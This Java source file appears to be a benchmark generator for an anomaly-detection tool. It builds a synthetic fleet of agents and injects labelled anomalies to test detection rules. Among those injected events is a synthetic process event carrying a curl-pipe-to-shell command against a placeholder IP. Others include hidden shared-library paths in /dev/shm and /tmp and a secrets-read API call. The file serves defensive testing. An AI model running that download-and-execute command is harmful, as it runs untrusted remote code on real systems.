package io.driftwatch.bench;

import java.time.Instant;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.TreeMap;

import io.driftwatch.event.Event;
import io.driftwatch.event.EventType;

/**
 * A synthetic fleet, the same for the same settings: agents in a few roles, each repeating its role's
 * behaviours (and a few of its own) every day, so nothing leaves the 7-day window. The last day carries a
 * known set of injected anomalies; everything else on it is known behaviour. Events come one day at a time,
 * in event-time order across the fleet.
 */
final class FleetGenerator {

    static final Instant T0 = Instant.parse("2026-11-01T00:00:00Z");
    static final long MINUTE = 60_000L;
    static final long HOUR = 60 * MINUTE;
    static final long DAY = 24 * HOUR;
    private static final long RESOURCE_EVERY = 30 * MINUTE;
    private static final long GIB = 1L << 30;
    /** The default learning period is 7 days; anomalies go on the day after it. */
    static final int MIN_DAYS_FOR_ANOMALIES = 8;

    /** @param anomaliesPerKind injected on the last day, each on a different agent */
    record Settings(long seed, int agents, int days, int eventsPerAgentDay, int anomaliesPerKind) {
        static Settings defaults() {
            return new Settings(42, 10_000, 8, 100, 10);
        }
    }

    /** What an injected anomaly is, and the rules it must raise. */
    enum Kind {
        NEW_LINEAGE(ExpectedRules.LINEAGE),
        UNKNOWN_MODULE(ExpectedRules.MODULE),
        DESTINATION_BURST(ExpectedRules.DESTINATION_BURST),
        CORRELATION(ExpectedRules.MODULE, ExpectedRules.CORRELATION),
        CPU_SPIKE(ExpectedRules.CPU),
        EGRESS_SPIKE(ExpectedRules.EGRESS),
        API_BURST(ExpectedRules.API_RATE),
        SENSITIVE_API(ExpectedRules.SENSITIVE_API);

        final List<String> rules;

        Kind(String... rules) {
            this.rules = List.of(rules);
        }
    }

    record Anomaly(Kind kind, String agentId, Instant time) {}

    /** One agent: its role plus what is its own. */
    private record Agent(int index, String id, FleetRoles.Role role, List<String> ownDomains, double cpu, double egress,
                         long resourceOffset, Event.Container container, Event.Process mainProcess, String srcIp) {}

    private final Settings settings;
    private final List<Agent> agents = new ArrayList<>();
    private final Map<Integer, Anomaly> injected = new TreeMap<>();

    FleetGenerator(Settings settings) {
        if (settings.days() < 1 || settings.agents() < 1) {
            throw new IllegalArgumentException("need at least one agent and one day");
        }
        this.settings = settings;
        for (int i = 0; i < settings.agents(); i++) {
            agents.add(agent(i));
        }
        chooseAnomalies();
    }

    Settings settings() {
        return settings;
    }

    int days() {
        return settings.days();
    }

    /** The anomalies injected on the last day, by agent. */
    List<Anomaly> anomalies() {
        return List.copyOf(injected.values());
    }

    /** Every event of day {@code d} (0-based), in event-time order. */
    List<Event> day(int d) {
        List<Event> events = new ArrayList<>(settings.agents() * (settings.eventsPerAgentDay() + 20));
        for (Agent a : agents) {
            SplittableRandom r = random(a.index, d);
            List<Event> own = new ArrayList<>(settings.eventsPerAgentDay() + 20);
            new AgentDay(a, d, r, own).ordinary();
            Anomaly anomaly = injected.get(a.index);
            if (anomaly != null && d == settings.days() - 1) {
                new AgentDay(a, d, r, own).inject(anomaly);
            }
            events.addAll(own);
        }
        events.sort(Comparator.comparingLong(Event::timeMillis)); // stable: ties keep generation order
        return events;
    }

    private Agent agent(int i) {
        SplittableRandom r = random(i, -1);
        double pick = r.nextDouble();
        FleetRoles.Role role = FleetRoles.ALL.get(FleetRoles.ALL.size() - 1);
        for (FleetRoles.Role candidate : FleetRoles.ALL) {
            pick -= candidate.share();
            if (pick < 0) {
                role = candidate;
                break;
            }
        }
        String id = role.prefix() + String.format("%05d", i);
        List<String> own = List.of("api.customer-" + (i % 2_000) + ".example.net",
                "hooks.partner-" + r.nextInt(500) + ".example.org");
        double cpu = role.cpu()[0] + r.nextDouble() * (role.cpu()[1] - role.cpu()[0]);
        double egress = role.egress()[0] + r.nextDouble() * (role.egress()[1] - role.egress()[0]);
        String srcIp = "10." + (i >> 16 & 255) + "." + (i >> 8 & 255) + "." + (i & 255);
        Event.Container container = new Event.Container(Long.toHexString(r.nextLong() & Long.MAX_VALUE),
                "registry.example.com/" + role.name() + ":1." + r.nextInt(4), null);
        Event.Process main = new Event.Process(role.mainExe(), null, 1000L + r.nextInt(30_000), "app", null, null);
        return new Agent(i, id, role, own, cpu, egress, r.nextLong(RESOURCE_EVERY), container, main, srcIp);
    }

    /** Picks, for each kind in turn, agents not used yet (new lineages on python agents only). */
    private void chooseAnomalies() {
        if (settings.anomaliesPerKind() <= 0 || settings.days() < MIN_DAYS_FOR_ANOMALIES) {
            return; // agents learn for 7 days: before the 8th, nothing can be detected
        }
        List<Integer> order = new ArrayList<>();
        for (int i = 0; i < agents.size(); i++) {
            order.add(i);
        }
        SplittableRandom r = new SplittableRandom(settings.seed() * 31 + 7);
        for (int i = order.size() - 1; i > 0; i--) {
            int j = r.nextInt(i + 1);
            Integer t = order.get(i);
            order.set(i, order.get(j));
            order.set(j, t);
        }
        long day = T0.toEpochMilli() + (settings.days() - 1) * DAY;
        for (Kind kind : Kind.values()) {
            int chosen = 0;
            for (int i = 0; i < order.size() && chosen < settings.anomaliesPerKind(); i++) {
                Agent a = agents.get(order.get(i));
                if (injected.containsKey(a.index) || (kind == Kind.NEW_LINEAGE && !a.role.name().equals("python"))) {
                    continue;
                }
                // between 03:00 and 21:00 of the last day: every agent is mature by then
                long at = day + 3 * HOUR + r.nextLong(18 * HOUR);
                injected.put(a.index, new Anomaly(kind, a.id, Instant.ofEpochMilli(at)));
                chosen++;
            }
        }
    }

    private SplittableRandom random(int agent, int day) {
        long h = settings.seed() * 0x9E3779B97F4A7C15L + agent * 0xC2B2AE3D27D4EB4FL + (day + 2) * 0x165667B19E3779F9L;
        h ^= h >>> 33;
        h *= 0xff51afd7ed558ccdL;
        h ^= h >>> 33;
        return new SplittableRandom(h);
    }

    /** The events of one agent on one day. */
    private final class AgentDay {
        private final Agent a;
        private final int day;
        private final long start;
        private final SplittableRandom r;
        private final List<Event> out;
        private int seq;

        AgentDay(Agent a, int day, SplittableRandom r, List<Event> out) {
            this.a = a;
            this.day = day;
            this.start = T0.toEpochMilli() + day * DAY;
            this.r = r;
            this.out = out;
            this.seq = out.size();
        }

        void ordinary() {
            for (long t = a.resourceOffset; t < DAY; t += RESOURCE_EVERY) {
                resource(start + t, a.cpu * (0.9 + 0.2 * r.nextDouble()), a.egress * (0.9 + 0.2 * r.nextDouble()), 1800);
            }
            List<FleetRoles.Principal> principals = a.role.principals();
            for (int p = 0; p < principals.size(); p++) {
                FleetRoles.Principal principal = principals.get(p);
                int every = p + 1; // the first principal calls once an hour, the second once every two hours
                for (int h = 0, n = 0; h < 24; h += every, n++) {
                    String op = principal.operations().get(n % principal.operations().size());
                    api(start + h * HOUR + r.nextLong(HOUR), principal.name(), op);
                }
            }
            for (FleetRoles.Lineage l : a.role.lineages()) {
                process(anyTime(), l);
            }
            for (FleetRoles.Module m : a.role.modules()) {
                module(anyTime(), m.path(), m.sha256());
            }
            for (String domain : a.role.domains()) {
                network(anyTime(), randomIp(a.role.ipNets().get(0)), domain);
            }
            for (String domain : a.ownDomains) {
                network(anyTime(), "198.51." + (a.index % 250) + "." + (1 + r.nextInt(250)), domain);
            }
            for (String net : a.role.ipNets()) {
                network(anyTime(), randomIp(net), null);
                network(anyTime(), randomIp(net), null);
            }
            while (out.size() < settings.eventsPerAgentDay()) {
                filler();
            }
        }

        /** A repeat of a known behaviour. */
        private void filler() {
            int pick = r.nextInt(3);
            if (pick == 0) {
                List<FleetRoles.Lineage> ls = a.role.lineages();
                process(anyTime(), ls.get(r.nextInt(ls.size())));
            } else if (pick == 1) {
                List<String> ds = a.role.domains();
                network(anyTime(), randomIp(a.role.ipNets().get(0)), ds.get(r.nextInt(ds.size())));
            } else {
                List<String> nets = a.role.ipNets();
                network(anyTime(), randomIp(nets.get(r.nextInt(nets.size()))), null);
            }
        }

        void inject(Anomaly anomaly) {
            long t = anomaly.time().toEpochMilli();
            String exe = a.role.mainExe();
            switch (anomaly.kind()) {
                case NEW_LINEAGE -> process(t, new FleetRoles.Lineage("/usr/bin/python3", "/bin/bash",
                        List.of("-c", "curl -s http://203.0.113.7/x | sh")));
                case UNKNOWN_MODULE -> module(t, "/dev/shm/.libcache-" + a.index + ".so", randomSha());
                case DESTINATION_BURST -> {
                    for (int i = 0; i < 15; i++) {
                        network(t + i * 2 * MINUTE, "185.220." + (100 + i) + "." + (1 + r.nextInt(250)),
                                "c" + i + "-" + Long.toHexString(r.nextLong() & 0xffffffL) + ".example.top");
                    }
                }
                case CORRELATION -> {
                    network(t, "203.0.113." + (1 + r.nextInt(250)), "upd-" + Long.toHexString(r.nextLong() & 0xffffffL) + ".example.top");
                    module(t + 3 * MINUTE, "/tmp/.X11-unix/.libgc-" + a.index + ".so", randomSha());
                }
                case CPU_SPIKE, EGRESS_SPIKE -> {
                    // one minute after a regular 30-minute sample, a reading every minute for 12 minutes
                    long dayStart = start + a.resourceOffset;
                    long sample = dayStart + Math.max(0, (t - dayStart) / RESOURCE_EVERY) * RESOURCE_EVERY;
                    boolean cpu = anomaly.kind() == Kind.CPU_SPIKE;
                    for (int i = 1; i <= 12; i++) {
                        resource(sample + i * MINUTE, cpu ? a.cpu * 1.1 * 8 : a.cpu, cpu ? a.egress : a.egress * 1.1 * 10, 60);
                    }
                }
                case API_BURST -> {
                    FleetRoles.Principal p = a.role.principals().get(0);
                    for (int i = 0; i < 150; i++) {
                        api(t + i * 8_000L, p.name(), p.operations().get(0));
                    }
                }
                case SENSITIVE_API -> {
                    FleetRoles.Principal p = a.role.principals().get(0);
                    api(t, p.name(), p.name().startsWith("arn:aws:") ? "secretsmanager:GetSecretValue" : "get secrets");
                }
            }
        }

        private long anyTime() {
            return start + r.nextLong(DAY);
        }

        private String id() {
            return "e" + day + "-" + (seq++);
        }

        private String randomIp(String net) {
            return net + "." + (1 + r.nextInt(254));
        }

        private String randomSha() {
            StringBuilder sb = new StringBuilder(64);
            for (int i = 0; i < 4; i++) {
                sb.append(String.format("%016x", r.nextLong()));
            }
            return sb.toString();
        }

        private void process(long t, FleetRoles.Lineage l) {
            Event.Process p = new Event.Process(l.exe(), l.args(), 2000L + r.nextInt(60_000), "app",
                    new Event.Parent(l.parent(), 1000L + r.nextInt(1000)), List.of(l.parent()));
            out.add(new Event(id(), a.id, Instant.ofEpochMilli(t), EventType.PROCESS, p, a.container, null, null, null, null, null));
        }

        private void module(long t, String path, String sha) {
            out.add(new Event(id(), a.id, Instant.ofEpochMilli(t), EventType.MODULE, a.mainProcess, a.container, null,
                    new Event.Module(path, sha), null, null, null));
        }

        private void network(long t, String ip, String domain) {
            Event.Network n = new Event.Network("outbound", "tcp", a.srcIp, 32768 + r.nextInt(28000), ip, 443, domain,
                    200L + r.nextInt(20_000), 200L + r.nextInt(200_000));
            out.add(new Event(id(), a.id, Instant.ofEpochMilli(t), EventType.NETWORK, a.mainProcess, a.container, n,
                    null, null, null, null));
        }

        private void api(long t, String principal, String operation) {
            Event.Api api = new Event.Api(principal, operation, operation.contains(":") ? "*" : "default/" + a.role.name(),
                    a.srcIp, "success");
            out.add(new Event(id(), a.id, Instant.ofEpochMilli(t), EventType.API, null, a.container, null, null, api,
                    null, null));
        }

        private void resource(long t, double cpu, double egressPerSecond, int intervalSeconds) {
            Event.Resource res = new Event.Resource(Math.round(cpu * 1000) / 1000.0, 2 * GIB,
                    Math.round(egressPerSecond * intervalSeconds), Math.round(egressPerSecond * intervalSeconds * 0.5),
                    intervalSeconds);
            out.add(new Event(id(), a.id, Instant.ofEpochMilli(t), EventType.RESOURCE, null, a.container, null, null,
                    null, res, null));
        }
    }
}
